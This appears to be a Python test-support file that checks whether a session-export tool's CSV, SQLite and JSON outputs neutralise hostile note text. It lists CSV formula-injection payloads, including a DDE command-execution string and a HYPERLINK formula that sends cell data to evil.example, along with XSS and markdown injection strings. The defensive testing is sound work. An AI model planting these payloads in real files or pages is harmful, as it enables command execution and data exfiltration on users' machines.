"""Sessions to export, and the ways to read the exports back as their users' programs do."""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from pathlib import Path

from fishbowl.core.cards import DrawCard
from fishbowl.core.notes import OpenTablecloths, WriteNote
from fishbowl.core.session import EndSession
from fishbowl.core.stages import OpenStage
from fishbowl.export import FORMATS, Options, export, format_of
from tests.support.held import Held
from tests.text.hostile import HARMLESS, HOSTILE

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
)
MARKUP = (
    "# not a heading",
    "- not a list",
    "1. not a list",
    "> not a quote",
    "*em* **strong** _em_ __strong__ ~~gone~~ `code` ``code``",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png) [ref]: http://evil.example",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- gone -->",
    "http://evil.example https://evil.example www.evil.example evil.example <http://evil.example>",
    "| a | b |",
    "&lt;b&gt; &#60; &copy;",
    "$x^2$ \\begin{x} {.class} [^1] [@cite] ==mark== %%gone%%",
    "```\nfence\n```",
    "    indented",
    "title\n===",
    "a  \nb\\",
    "***",
    "- [ ] task",
    "\\* already",
)
TYPED = (
    *FORMULAS,
    *MARKUP,
    *(text for text in (*HOSTILE.values(), *HARMLESS) if text.strip() and len(text) <= 4000),
)


def hostile(tmp_path: Path) -> Held:
    """A session whose notes are all that could do harm, opened and ended."""
    held = Held(tmp_path, name="=1+1 [x](http://evil.example)")
    held.at(10, "M", OpenStage("binding"))
    held.at(20, "T", DrawCard())
    for number, text in enumerate(TYPED):
        held.at(30 + number, "O1", WriteNote(f"n{number}", "O1", "observation"), text=text)
    held.at(1000, "M", OpenStage("break"))
    held.at(1001, "M", OpenTablecloths())
    held.at(1100, "M", EndSession())
    return held


def exported(held: Held, name: str, folder: Path, options: Options | None = None) -> Path:
    target = folder / f"x{format_of(name).ENDING}"
    export(held.record(), name, target, options or Options())
    return target


def all_bytes(held: Held, folder: Path) -> dict[str, bytes]:
    """Every file of every format, by its name."""
    found = {}
    for name in FORMATS:
        target = exported(held, name, folder)
        for path in (target, *target.rglob("*")):
            if path.is_file():
                found[str(path.relative_to(folder))] = path.read_bytes()
    return found


def csv_rows(folder: Path, table: str, separator: str = ",") -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=separator))


def sqlite_rows(path: Path, table: str) -> list[dict[str, object]]:
    with closing(sqlite3.connect(path)) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute(f"SELECT * FROM {table}")]


def lines_of(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text("ascii").split("\n")[:-1]]
